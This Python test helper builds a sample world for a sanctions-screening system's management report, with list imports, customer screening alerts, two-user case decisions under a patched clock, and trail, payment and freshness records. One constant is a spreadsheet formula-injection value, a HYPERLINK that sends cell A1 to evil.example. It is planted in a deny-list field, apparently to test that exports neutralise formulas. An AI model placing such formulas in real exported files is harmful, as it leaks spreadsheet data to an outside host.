"""A small world for the management report, built through the system's own steps on either backend.

The shipped sample lists (OFAC and UN) and an internal deny list whose one party carries a programme
that a spreadsheet would run as a formula; customers imported from a file and screened (alerts raised);
a shared-value alert, which is no name hit; four-eyes decisions taken by two users; a screening trail,
a payment screening and a failed check of the UN list's download.

The clock of the alerts and of the case steps is set (their modules' `_now`), so that times to decision
and ages are known: every alert is raised at T0 and each decision confirmed at a chosen hour after it.
The audit records (monitoring run, screening trail) and the payment keep the real time.
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlalchemy import Engine

from sanctionwatch.access.roles import Role
from sanctionwatch.access.users import Users
from sanctionwatch.cases import workflow
from sanctionwatch.cases.workflow import Actor, Cases
from sanctionwatch.db.engine import connect
from sanctionwatch.monitoring import alerts as alerts_module
from sanctionwatch.monitoring.alerts import Alerts, Finding
from sanctionwatch.monitoring.customer_store import Customers
from sanctionwatch.monitoring.rescreen import Monitor
from sanctionwatch.payments.holds import PaymentHolds
from sanctionwatch.payments.screening import ListState, PaymentScreener
from sanctionwatch.registry.freshness import CheckOutcome, record_check
from sanctionwatch.registry.store import Registry
from sanctionwatch.registry.update import sample_files, update_from_files
from sanctionwatch.screening.query import Hit, Query
from sanctionwatch.screening.screener import Screener
from sanctionwatch.screening.trail import ScreeningTrail
from tests.payments.conftest import ORDINARY, message

T0 = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
PASSWORD = "correct horse battery staple"
ALICE = Actor("user:alice", Role.ANALYST)
BOB = Actor("user:bob", Role.APPROVER)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
DENY_LIST = (
    f'id,name,schema,program\nD-1,Zorro Montenegro Vasquez,Person,"{FORMULA.replace(chr(34), chr(34) * 2)}"\n'
)
CUSTOMERS = (
    "id,name,schema,birth_date,country\n"
    "c-kim,Kim Jong Un,Person,1984-01-08,kp\n"
    "c-hwang,Hwang Su Man,Person,,\n"
    "c-choe,Choe Chun Sik,Person,,\n"
    "c-ftb,Foreign Trade Bank of the DPRK,Organization,,\n"
    "c-komid,Korea Mining Development Trading Corporation,Organization,,\n"
    "c-zorro,Zorro Montenegro Vasquez,Person,,\n"
    "o-maria,Maria Schmidt,Person,1975-03-02,de\n"
)
# (customer, listed record, decision, hours from T0 to the confirmation); closed after it when marked.
DECIDED = (
    ("c-choe", "un:KPi.013", "false_positive", 2),
    ("c-zorro", "internal:deny:D-1", "false_positive", 5),
    ("c-ftb", "ofac-sdn:15603", "true_match", 10),
    ("c-hwang", "ofac-sdn:18552", "false_positive", 30),
)
SHARED = ("c-shared", "un:KPi.013", 100)  # a shared-value alert, decided false positive after 100 h


@dataclass(frozen=True)
class World:
    url: str
    alert_of: dict[tuple[str, str], int]  # (customer, listed record) -> alert id
    trail_notes: int  # screenings noted one by one (real time)
    payments: int  # payment messages screened (real time)
    customers: int  # customers the monitoring run screened (real time)


def build_world(url: str, scratch: Path) -> World:
    engine = connect(url)
    try:
        return _build(engine, url, scratch)
    finally:
        engine.dispose()


def _build(engine: Engine, url: str, scratch: Path) -> World:
    registry = Registry(engine)
    for paths in sample_files().values():
        assert all(o.ok for o in update_from_files(registry, paths))
    deny = scratch / "deny.csv"
    deny.write_text(DENY_LIST, encoding="utf-8")
    assert all(o.ok for o in update_from_files(registry, [deny], source="internal:deny"))
    Users(engine).create("alice", "analyst", PASSWORD)
    Users(engine).create("bob", "approver", PASSWORD)
    customers = scratch / "customers.csv"
    customers.write_text(CUSTOMERS, encoding="utf-8")
    summary, rejected = Customers(engine).import_file(customers)
    assert not rejected
    screener = Screener.from_registry(registry)
    versions = {v.source: v.number for v in registry.active_versions()}
    clock = [T0]
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(alerts_module, "_now", lambda: clock[0])
        patch.setattr(workflow, "_now", lambda: clock[0])
        run = Monitor(engine, screener, versions, workers=1).screen_new_customers()
        alert_of = {(a["customer_id"], a["entity_id"]): int(a["id"]) for a in run.alerts}
        hit = Hit(SHARED[1], 1.0, [SHARED[1]], "CHOE CHUN SIK", "CHOE CHUN SIK", "Person")
        shared = Alerts(engine).raise_alerts(
            [Finding(SHARED[0], "c" * 64, hit, "r" * 64, "un/1")], trigger="shared-value"
        )
        alert_of[SHARED[:2]] = int(shared.created[0]["id"])
        cases = Cases(engine)
        for customer, record, decision, hours in (*DECIDED, (*SHARED[:2], "false_positive", SHARED[2])):
            case = alert_of[(customer, record)]
            clock[0] = T0 + timedelta(hours=hours) - timedelta(minutes=30)
            cases.review(case, ALICE)
            cases.propose(case, ALICE, decision, "compared the birth date and the address")
            clock[0] = T0 + timedelta(hours=hours)
            cases.confirm(case, BOB)
        clock[0] = T0 + timedelta(hours=11)
        cases.close(alert_of[("c-ftb", "ofac-sdn:15603")], ALICE)
        cases.review(alert_of[("c-kim", "ofac-sdn:20157")], ALICE)
        cases.propose(alert_of[("c-kim", "ofac-sdn:20157")], ALICE, "true_match", "same birth date")
        cases.review(alert_of[("c-komid", "ofac-sdn:9345")], ALICE)
    trail = ScreeningTrail(engine)
    for name in ("Ada Lovelace", "Kim Jong Un", "Maria Schmidt"):
        trail.note("user:alice", "api", {"name": name}, screener.screen(Query(name)), versions)
    trail.flush()
    payments = PaymentScreener(screener, ListState(tuple(f"{s}/{n}" for s, n in versions.items())))
    PaymentHolds(engine).record(payments.screen(message(*ORDINARY)), actor="gateway")
    record_check(engine, "un", CheckOutcome.FAILED, datetime.now(UTC), reason="connection refused")
    return World(url, alert_of, trail_notes=3, payments=1, customers=summary.added)
